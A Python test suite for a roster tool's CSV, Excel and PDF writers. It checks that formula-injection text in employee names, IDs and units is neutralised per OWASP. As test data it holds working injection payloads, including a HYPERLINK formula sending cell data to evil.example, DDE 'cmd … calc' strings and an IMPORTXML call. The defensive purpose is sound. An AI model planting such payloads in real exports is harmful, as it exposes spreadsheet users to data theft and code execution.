"""Tests that no text a writer puts in a CSV or Excel cell can be read as a formula (OWASP).

Hostile names, NIPs, unit and sub-unit names are generated (any trigger `= + - @`, tab, CR,
full-width forms, hidden behind spaces or control characters), written by every writer, read
back, and every text cell checked. In a CSV a formula-like text starts with `'` (OWASP); in an
.xlsx it is a string cell holding exactly the export's text, under a style with the quote
prefix (Excel's own "typed with a leading apostrophe"); in a PDF it is printed as it is.
"""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import sys
from datetime import date
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from tests import workbooks
from wfh_solver.domain.calendar import Calendar
from wfh_solver.domain.employee import Category, Employee
from wfh_solver.solve.result import AppliedRule, Result, Roster, RuleCount, Status
from wfh_solver.write import write_csv, write_xlsx
from wfh_solver.write.neutral import needs_neutralising, neutralise
from wfh_solver.write.per_unit import write_per_unit
from wfh_solver.write.tables import write_tables

DAYS = (date(2020, 3, 23), date(2020, 3, 24))
# What a spreadsheet may take for the start of a formula (the OWASP list, full-width forms).
DANGER = re.compile("[\t\r]|[\\s\x00-\x1f\x7f]*[=+\\-@\uff1d\uff0b\uff0d\uff20]")
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", " =", "\x01=", "\uff1d", "\uff20", "  @"]
PAYLOADS = ['HYPERLINK("http://evil.example/?x="&A1,"klik")', "1+1", "SUM(1)",
            "cmd|' /C calc'!A0", "2+5+cmd|' /C calc'!A0", "IMPORTXML(CONCAT(\"http://x/\",A1))"]

hostile = st.builds(lambda t, p, tail: t + p + tail, st.sampled_from(TRIGGERS),
                    st.sampled_from(PAYLOADS), st.text(max_size=8))


def _safe(text: object) -> bool:
    return not isinstance(text, str) or text.startswith("'") or not DANGER.match(text)


def _result(fields: list[tuple[str, str, str, str]]) -> Result:
    employees = tuple(
        Employee(nip=nip, name=name, unit=unit, sub_unit=sub, position=name,
                 category=Category.PELAKSANA, status="ptt")
        for nip, name, unit, sub in fields)
    office = np.array([[(i + d) % 2 == 0 for d in range(len(DAYS))]
                       for i in range(len(employees))], dtype=bool)
    units = sorted({e.unit for e in employees})
    counts = tuple(RuleCount(f"{u} aturan", "min_present", u, "",
                             tuple(i for i, e in enumerate(employees) if e.unit == u), minimum=1)
                   for u in units)
    return Result(
        scenario_name="uji", scenario_title="=judul", source="@sumber",
        calendar=Calendar(DAYS[0], DAYS[-1], DAYS, (), "mon-fri"),
        roster=Roster(employees, DAYS, office), status=Status.OPTIMAL, levels=(),
        rule_counts=counts,
        applied_rules=(AppliedRule("-aturan", "min_present", "+uraian", 1),),
        warnings=tuple(f"{u}: peringatan" for u in units), choices=("=pilihan",))


def _xlsx_texts(path: Path) -> list[str]:
    book = CalamineWorkbook.from_path(str(path))
    return [cell for name in book.sheet_names
            for row in book.get_sheet_by_name(name).to_python() for cell in row
            if isinstance(cell, str)]


def _excel_text(stored: str) -> str:
    """A cell's text as Excel shows it: `_xHHHH_` decoded (openpyxl leaves it as stored)."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), stored)


def _xlsx_cells(path: Path) -> list[tuple[str, bool]]:
    """(text, quote prefix) of every string cell of every sheet; a formula cell fails."""
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [(_excel_text(c.value), bool(c.quotePrefix)) for c in cells
            if isinstance(c.value, str)]


def _protected(cells: list[tuple[str, bool]]) -> list[str]:
    """The texts a spreadsheet could take for a formula yet lacking the quote prefix."""
    return [text for text, quoted in cells if DANGER.match(text) and not quoted]


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(hostile, hostile, hostile, hostile), min_size=1, max_size=4))
def test_generated_hostile_text_is_neutralised_in_csv_and_xlsx(tmp_path, people):
    """Tests every cell of the CSV and of every workbook sheet for a formula-like start."""
    fields = [(f"{nip}{k}", name, unit or "u", sub) for k, (nip, name, unit, sub)
              in enumerate(people)]
    result = _result(fields)
    write_csv(result, tmp_path / "j.csv")
    with open(tmp_path / "j.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert len(rows) == 1 + len(fields) * len(DAYS)
    assert all(_safe(cell) for row in rows for cell in row)
    write_xlsx(result, tmp_path / "j.xlsx")
    cells = _xlsx_cells(tmp_path / "j.xlsx")
    assert not _protected(cells)
    # nothing changed: the cell holds the name itself, controls included, quoted
    name = fields[0][1]
    assert (name, True) in cells
    assert name in _xlsx_texts(tmp_path / "j.xlsx")  # calamine reads the same text
    for path in write_per_unit(result, tmp_path / "unit"):
        cells = _xlsx_cells(path)
        assert not _protected(cells)
        assert not [text for text, _ in cells if text.startswith("'")]


def test_harmless_text_is_left_alone():
    """Tests that ordinary names, NIPs, hyphens inside text and empty text are not touched."""
    for text in ("Drs. Budi Santoso, M.Si.", "196503121990031005", "Sub-bagian Umum", "",
                 "a=b", "R. A. Kartini", "'sudah"):
        assert neutralise(text) == text
    assert neutralise("=1+1") == "'=1+1" and neutralise("\t=1") == "'\t=1"


def test_installed_script_neutralises_hostile_nip_name_and_unit(tmp_path):
    """Tests the console script end to end: non-ASN rows with formula NIPs, names and units; the
    roster, every per-unit workbook and PDF keep the exact text, the CSV gets the apostrophe."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(workbooks.HEADER)
    for row in workbooks.ROWS:
        sheet.append(row)
    hostile_rows = [
        ['=HYPERLINK("http://x","y")', "+1+1", "Dinas Kesehatan", "@SUM(1)", "Staf", "-", "",
         "PTT"],
        ["@SUM(A1:A9)", '=cmd|" /C calc"!A0', "-Dinas Rahasia", "", "Staf", "-", "", "Honorer"],
        ["+6281234", "-Budi", "Dinas Kesehatan", "", "Staf", "-", "", "PTT"],
        ["=SUM(A1)", "-Rina-", "Dinas Kesehatan", "+62 812 3456", "Staf", "-", "", "PTT"],
    ]
    for row in hostile_rows:
        sheet.append(row)
    for r in range(len(workbooks.ROWS) + 2, sheet.max_row + 1):
        for c in range(1, 9):
            sheet.cell(row=r, column=c).data_type = "s"  # text cells, as an export has them
    book.save(tmp_path / "p.xlsx")
    script = Path(sys.executable).with_name("wfh-solver")
    env = {**os.environ, "LANG": "C.UTF-8"}
    extra = {"j.csv": [], "j.xlsx": ["--per-unit", str(tmp_path / "unit"), "--pdf",
                                      str(tmp_path / "pdf")]}
    for out, options in extra.items():
        done = subprocess.run([str(script), "solve", str(tmp_path / "p.xlsx"), "-s",
                               "kebumen-2020", "-o", str(tmp_path / out), "-q", *options],
                              capture_output=True, text=True, timeout=300, env=env)
        assert done.returncode == 0, done.stderr
    hostile = {'=HYPERLINK("http://x","y")', "+1+1", "@SUM(A1:A9)", "-Dinas Rahasia",
               "+6281234", "-Budi", "=SUM(A1)", "-Rina-", "+62 812 3456"}
    with open(tmp_path / "j.csv", encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh, delimiter=";") for cell in row]
    assert all(_safe(cell) for cell in cells)
    assert {"'" + text for text in hostile} <= set(cells)
    roster = _xlsx_cells(tmp_path / "j.xlsx")
    assert not _protected(roster)
    assert {(text, True) for text in hostile} <= set(roster)
    assert not [text for text, _ in roster if text.startswith("'")]
    units = [cell for path in sorted((tmp_path / "unit").iterdir())
             for cell in _xlsx_cells(path)]
    assert not _protected(units) and not [text for text, _ in units if text.startswith("'")]
    assert {("-Dinas Rahasia", True), ("-Rina-", True), ("=SUM(A1)", True)} <= set(units)
    if shutil.which("pdftotext"):
        printed = "".join(subprocess.run(["pdftotext", str(path), "-"], capture_output=True,
                                         text=True, check=True).stdout
                          for path in (tmp_path / "pdf").iterdir())
        assert "-Dinas Rahasia" in printed and "-Rina-" in printed and "'-" not in printed


def test_a_trailing_carriage_return_survives_the_workbook(tmp_path):
    """Tests a name ending in CR: neutralised, and kept whole (xml:space is judged on the
    text, not on its escaped `&#13;`), as Hypothesis once found."""
    name = '=HYPERLINK("http://evil.example/?x="&A1,"klik")\r'
    write_xlsx(_result([("=H0", name, "=u", "=s")]), tmp_path / "j.xlsx")
    assert name in _xlsx_texts(tmp_path / "j.xlsx")
    assert (name, True) in _xlsx_cells(tmp_path / "j.xlsx")


def test_quote_prefix_styles_are_written_once_per_style(tmp_path):
    """Tests the styles part: a formula-like text gets the quote-prefixed twin of its style,
    harmless text keeps the plain one, and `needs_neutralising` decides both."""
    write_xlsx(_result([("=H0", "-Rina-", "u", "s"), ("N1", "Rina", "u", "s")]),
               tmp_path / "j.xlsx")
    book = openpyxl.load_workbook(tmp_path / "j.xlsx")
    cells = {c.value: c for row in book["Jadwal"].iter_rows() for c in row
             if isinstance(c.value, str)}
    assert cells["-Rina-"].quotePrefix and not cells["Rina"].quotePrefix
    assert cells["=H0"].quotePrefix and not cells["N1"].quotePrefix
    assert cells["-Rina-"].alignment.wrap_text == cells["Rina"].alignment.wrap_text
    assert needs_neutralising("-Rina-") and not needs_neutralising("Rina")


def test_comparison_and_batch_tables_keep_text_under_the_quote_prefix(tmp_path):
    """Tests `write_tables` (compare's and batch's workbooks): formula-like texts, a header
    included, stay exact strings with the quote prefix; numbers and plain text are untouched."""
    frame = pd.DataFrame({"unit": ["=SUM(A1)", "-Rina-", "Dinas"], "=x": [1, 2, 3],
                          "share": [0.5, -0.25, 1.0]})
    write_tables({"Ringkasan": frame}, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["Ringkasan"]
    cells = {c.coordinate: c for row in sheet.iter_rows() for c in row}
    assert (cells["A2"].value, cells["A2"].quotePrefix) == ("=SUM(A1)", True)
    assert (cells["A3"].value, cells["A3"].quotePrefix) == ("-Rina-", True)
    assert (cells["A4"].value, cells["A4"].quotePrefix) == ("Dinas", False)
    assert (cells["B1"].value, cells["B1"].quotePrefix) == ("=x", True)
    assert cells["C3"].value == -0.25 and cells["C3"].data_type == "n"
    assert not [c for c in cells.values() if c.data_type == "f"]


def test_control_characters_in_a_cell_read_back_exactly(tmp_path):
    """Tests a NIP and a name holding controls (ESC, BEL, a literal `_x0041_`): stored as Excel
    stores them, read back by calamine (the tool's own reader) as the export's text."""
    nip, name = "X\x1b[2J\x071", "\x01=Rina_x0041_"  # a trigger behind a control
    write_xlsx(_result([(nip, name, "u", "s")]), tmp_path / "j.xlsx")
    texts = _xlsx_texts(tmp_path / "j.xlsx")
    assert nip in texts and name in texts
    # openpyxl decodes Excel's escapes only in part; the style is what is asked of it here
    assert all(quoted for text, quoted in _xlsx_cells(tmp_path / "j.xlsx") if "Rina" in text)
